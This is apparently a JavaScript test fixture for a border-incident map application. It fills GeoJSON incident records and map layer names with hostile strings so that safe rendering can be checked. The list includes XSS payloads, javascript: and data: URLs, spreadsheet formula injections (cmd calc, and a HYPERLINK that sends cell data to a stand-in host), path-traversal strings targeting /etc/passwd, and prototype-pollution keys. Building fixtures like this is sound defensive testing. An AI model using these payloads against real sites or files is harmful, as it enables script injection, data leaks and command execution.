// Texts that try to become something else than text, and data made of them. Not responsible for what a page does with them.

import { readFileSync } from "node:fs";

/** Where nothing is; a request to it is a leak. */
const LEAK = "https://hostile.invalid";

const MARKUP = [
  "<script>alert(1)</script>",
  "<script>globalThis.ran = 'script'</script>",
  `<script src="${LEAK}/a.js"></script>`,
  "<img src=x onerror=alert(1)>",
  `<img src="${LEAK}/b.png">`,
  "\"><img src=x onerror=\"globalThis.ran='quote'\">",
  "'><svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  `<svg><image href="${LEAK}/c.png"/></svg>`,
  `<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<object data="${LEAK}/d"></object>`,
  `<link rel=stylesheet href="${LEAK}/e.css">`,
  `<style>@import "${LEAK}/f.css"; * { display: none }</style>`,
  `<meta http-equiv="refresh" content="0;url=${LEAK}/g">`,
  `<base href="${LEAK}/">`,
  `<form action="${LEAK}/h"><input autofocus onfocus=alert(1)></form>`,
  "<details open ontoggle=alert(1)>",
  "<math><mi xlink:href=\"javascript:alert(1)\">",
  "</title><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<!--<script>alert(1)",
  "]]><script>alert(1)</script>",
  "</noscript><img src=x onerror=alert(1)>",
  "</sarhad-map><script>alert(1)</script>",
  "<template shadowrootmode=open><script>alert(1)</script></template>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "${alert(1)} {{constructor.constructor('alert(1)')()}}",
  "`-alert(1)-`",
  "');alert(1);//",
];
const NAMES = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "null", "undefined", "NaN", "-0", "true", "[object Object]"];
const FORMULAS = ["=1+1", "=HYPERLINK(\"https://hostile.invalid/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "=\"a\",\"b\"\n=1"];
const PATHS = ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2fetc%2fpasswd", "C:\\nul", "con", "a/b\0.geojson"];
const SIGNS = ["شہر \u202eelbuod\u202c", "\u2066a\u2069\u200b\u200d\ufeffb", "\ud800 alone", "👩‍👩‍👧‍👦🇮🇷", "Z̸̧̛͓̹͇a̵͎̿l̴̰͂g̶̙̈ơ̷", "ａ\u0000b\u0007c\u001b[31m", "a".repeat(400), "line\nbreak\r\nand\ttab", "﷽"];
export const ADDRESSES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\u0001javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd", "blob:https://hostile.invalid/1", "//hostile.invalid/", "https://hostile.invalid/\"onmouseover=\"alert(1)", "https://user:word@hostile.invalid/<script>alert(1)</script>"];

/** More texts for a check by hand: SARHAD_STRINGS names files, parted by commas, of a JSON array of texts or of one text a line. */
function moreStrings() {
  const files = (process.env.SARHAD_STRINGS ?? "").split(",").filter((name) => name !== "");
  return files.flatMap((name) => {
    const text = readFileSync(name, "utf8");
    return name.endsWith(".json") ? JSON.parse(text) : text.split("\n");
  });
}

export const STRINGS = [...new Set([...MARKUP, ...NAMES, ...FORMULAS, ...PATHS, ...SIGNS, ...ADDRESSES, ...moreStrings()].map((text) => text.trim()))].filter((text) => text !== "");

/** One record of which every text is `text`. */
function feature(text, number) {
  const claim = { id: text, who: text, verb: text, quoted: number % 2 === 0, statement: text, about: text, said_on: text, when: text, where: text, toll: text, source: number % 3 === 0 ? text : "listed", differs_in: text };
  const properties = {
    title: text, summary: text, what: text, where: text, actors: text, source: text, source_url: ADDRESSES[number % ADDRESSES.length], note: text, conflicts: text,
    country: text, country_name: text, province: text, province_name: text, district: text, district_name: text, along_border: text,
    border: text, border_name: text, distance_min_m: 0, distance_max_m: 1_000 * number, distance_m: null,
    date: number % 2 === 0 ? text : "2023-04", ...(number % 2 === 0 ? {} : { date_start: "2023-04-01", date_end: "2023-04-30" }),
    precision: number % 4 === 0 ? text : "exact", radius_m: number % 5 === 0 ? text : null, areas: number % 4 === 0 ? text : "", claim_list: [claim, { ...claim, statement: null }],
  };
  return { type: "Feature", id: text, geometry: { type: "Point", coordinates: [60 + (number % 40) / 10, 26 + Math.floor(number / 40) / 10] }, properties };
}

/** Values of the wrong kind; a reader counts those that it cannot read. */
const WRONG = [
  null,
  7,
  { type: "Feature" },
  { type: "Feature", id: { toString: 1 }, geometry: null, properties: { title: ["a"], actors: { a: 1 }, claim_list: "none", date_start: 1e99, radius_m: -1 } },
  { type: "Feature", id: [], geometry: { type: "Point", coordinates: ["1", null] }, properties: { title: "no place" } },
  { type: "Feature", geometry: { type: "Point", coordinates: [1e308, -1e308] }, properties: { title: "far away", date_start: "9999999-01-01", distance_min_m: "Infinity" } },
  { type: "Feature", geometry: { type: "Polygon", coordinates: [[[0, 0]]] }, properties: { title: "no ring", claim_list: [null, 1, "a", [], {}] } },
];

export function hostileIncidents() {
  const [first] = STRINGS;
  const all = STRINGS.join(" ");
  const source = (text, number) => ({ id: number === 0 ? "listed" : text, title: text, publisher: text, published: text, url: ADDRESSES[number % ADDRESSES.length] });
  const metadata = { generator: first, attribution: all.slice(0, 2_000), licence: first, disclaimer: first, input: { title: first, description: first, attribution: first, licence: first, disclaimer: first }, sources: STRINGS.map(source) };
  return { type: "FeatureCollection", metadata, features: [...STRINGS.map(feature), ...WRONG] };
}

/** The layers `topology` with hostile names and credits. */
export function hostileLayers(topology) {
  let number = 0;
  const next = () => STRINGS[(number += 1) % Math.min(STRINGS.length, 80)];
  const objects = Object.fromEntries(
    Object.entries(topology.objects).map(([name, object]) => [name, { ...object, geometries: object.geometries.map((geometry) => ({ ...geometry, properties: { ...geometry.properties, name: next(), name_fa: next(), name_ur: next() } })) }]),
  );
  return { ...topology, metadata: { attribution: STRINGS[3], disclaimer: STRINGS[4], licence: STRINGS[5] }, objects };
}
